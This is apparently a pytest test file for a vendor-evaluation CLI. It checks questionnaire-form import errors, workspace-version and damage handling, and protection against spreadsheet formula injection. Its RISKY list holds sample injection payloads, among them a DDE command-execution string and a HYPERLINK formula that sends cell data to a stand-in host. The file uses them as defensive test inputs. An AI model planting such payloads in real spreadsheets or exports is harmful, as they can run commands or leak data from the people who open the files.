"""Forms that are not ours, text that a spreadsheet would run, and workspaces of a newer program."""

from __future__ import annotations

import contextlib
import csv
import io
import shutil
import sqlite3
import warnings
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from openpyxl.workbook import Workbook

from tests.conftest import Cli
from tests.flows.state import state
from tests.flows.test_flows_bad_input import HEAD, TERMS, refused
from vendoreval.resources import resource
from vendoreval.safe_text import is_risky, restore

RISKY = [
    '=HYPERLINK("http://x/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
]


@pytest.fixture(scope="module")
def there(tmp_path_factory: pytest.TempPathFactory) -> Cli:
    """A workspace with one vendor to whom a form was sent; the tests of bad input leave it as it is."""
    folder = tmp_path_factory.mktemp("forms")
    Cli(folder)("init", "ws")
    work = Cli(folder / "ws")
    work("vendor", "add", "acme")
    work("questionnaire", "answer", "acme", "G1", "--level", "2", "--text", RISKY[0])
    work("questionnaire", "form", "acme", "--out", "../form.xlsx")
    return work


def changed(there: Cli, file: Path, change: Callable[[Workbook], object]) -> Path:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # openpyxl drops the drop-downs, which is what other programs do too
        book = openpyxl.load_workbook(there.folder.parent / "form.xlsx")
    change(book)
    book.save(file)
    return file


def test_form_of_another_version(there: Cli, tmp_path: Path) -> None:
    bank = (resource("questionnaires") / "annotation-core.toml").read_text("utf-8")
    newer = tmp_path / "annotation-core.toml"
    newer.write_text(bank.replace('version = "1.1.0"', 'version = "1.2.0"'), "utf-8")
    said = refused(there, "questionnaire", "import", "acme", "../form.xlsx", "--bank", newer)
    assert "form of annotation-core 1.1.0; asked for was annotation-core 1.2.0" in said
    assert "send the vendor a new form" in said


def test_form_with_rows_or_sheets_deleted(there: Cli, tmp_path: Path) -> None:
    file = changed(there, tmp_path / "f.xlsx", lambda book: book.remove(book.worksheets[3]))
    said = refused(there, "questionnaire", "import", "acme", file)
    assert "lacks the rows of R1, R2, R3, R4, R5" in said
    file = changed(there, tmp_path / "g.xlsx", lambda book: book.worksheets[1].delete_rows(6))
    assert "lacks the row" in refused(there, "questionnaire", "import", "acme", file)


def test_form_answered_by_formulas(there: Cli, tmp_path: Path) -> None:
    def put(book: Workbook) -> None:
        for row in book.worksheets[1].iter_rows():
            for cell in row:
                if cell.value == RISKY[0]:
                    cell.value = "=1+1"

    said = refused(there, "questionnaire", "import", "acme", changed(there, tmp_path / "f.xlsx", put))
    assert "G1 is answered by a formula" in said


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (b"", "empty"),
        (b"id,level\nG1,4\n", "not an XLSX file"),
        (b"\xd0\xcf\x11\xe0", "protected by a password"),
        (b"<html></html>", "web page"),
    ],
)
def test_files_that_are_no_form(there: Cli, tmp_path: Path, data: bytes, says: str) -> None:
    file = tmp_path / "f.xlsx"
    file.write_bytes(data)
    assert says in refused(there, "questionnaire", "import", "acme", file)
    assert "folder" in refused(there, "questionnaire", "import", "acme", tmp_path)


def test_form_of_another_vendor(there: Cli) -> None:
    said = refused(there, "questionnaire", "import", "acne", "../form.xlsx")
    assert "written for vendor 'acme', not for 'acne'. Import it for 'acme'." in said


def test_text_that_looks_like_a_formula_stays_text_in_the_form(there: Cli) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        book = openpyxl.load_workbook(there.folder.parent / "form.xlsx")
    cells = [cell for sheet in book.worksheets[1:] for row in sheet.iter_rows() for cell in row]
    assert [cell.data_type for cell in cells if cell.value == RISKY[0]] == ["s"]
    assert not [cell for cell in cells if cell.data_type == "f"]


def test_text_that_looks_like_a_formula_is_taken_as_it_is_and_sent_out_harmless(tmp_path: Path) -> None:
    (tmp_path / "terms.toml").write_text(TERMS, "utf-8")
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow(["item_id", "label", "note"])
    writer.writerows([text, "jay", text] for text in RISKY)
    (tmp_path / "gold.csv").write_text(out.getvalue(), "utf-8", newline="")
    (tmp_path / "tasks.csv").write_text("item_id,note\n" + "".join(f"t{n},-x{n}\n" for n in range(7)), "utf-8")
    cli = Cli(tmp_path)
    cli("init")
    cli("vendor", "add", "acme", "--name", RISKY[0])
    cli("contract", "add", "terms.toml")
    cli("gold", "add", "gold.csv")
    cli("gold", "seed", "tasks.csv", "--gold", "gold", "--rate", "0.5", "--out", "send.csv")
    with (tmp_path / "send.csv").open(encoding="utf-8", newline="") as file:
        sent = list(csv.reader(file))
    assert not [cell for row in sent for cell in row if is_risky(cell)]
    assert {restore(row[1]) for row in sent[1:]} == {*RISKY, *(f"-x{n}" for n in range(7))}
    out = io.StringIO(newline="")
    csv.writer(out).writerows([text, text, "jay"] for text in RISKY)
    (tmp_path / "delivered.csv").write_text(HEAD + out.getvalue(), "utf-8", newline="")
    cli("delivery", "add", "delivered.csv", "--contract", "birds")
    result = cli("audit", "run", "delivered", "--gold", "gold", "--json", code=0).json
    assert result["counts"]["correct"] == len(RISKY)
    assert {row["annotator"] for row in result["by_annotator"]} == set(RISKY)


@pytest.mark.parametrize("words", [("status",), ("vendor", "add", "other"), ("gold", "list")])
def test_workspace_of_a_newer_program(there: Cli, tmp_path: Path, words: tuple[str, ...]) -> None:
    newer = Cli(Path(shutil.copytree(there.folder, tmp_path / "newer")))
    with contextlib.closing(sqlite3.connect(newer.folder / "vendoreval.db")) as database:
        database.execute("UPDATE alembic_version SET version_num = '9999'")
        database.commit()
    said = refused(newer, *words)
    assert "made by a newer vendoreval: its schema is 9999" in said
    assert "pip install --upgrade vendoreval" in said


def test_workspaces_that_are_damaged_or_missing(there: Cli, tmp_path: Path) -> None:
    assert "vendoreval init" in Cli(tmp_path)("status", code=2).err
    assert "no workspace" in Cli(tmp_path)("status", "--workspace", tmp_path / "none", code=2).err
    broken = Cli(Path(shutil.copytree(there.folder, tmp_path / "broken")))
    (broken.folder / "vendoreval.toml").write_text("schema =", "utf-8")
    assert "marker" in refused(broken, "status")
    broken = Cli(Path(shutil.copytree(there.folder, tmp_path / "torn")))
    data = (broken.folder / "vendoreval.db").read_bytes()
    (broken.folder / "vendoreval.db").write_bytes(b"no database" + data[11:])
    said = broken("status", code=2).err
    assert "cannot be used" in said
    (broken.folder / "vendoreval.db").unlink()
    assert "missing" in broken("status", code=2).err
    assert state(there.folder)
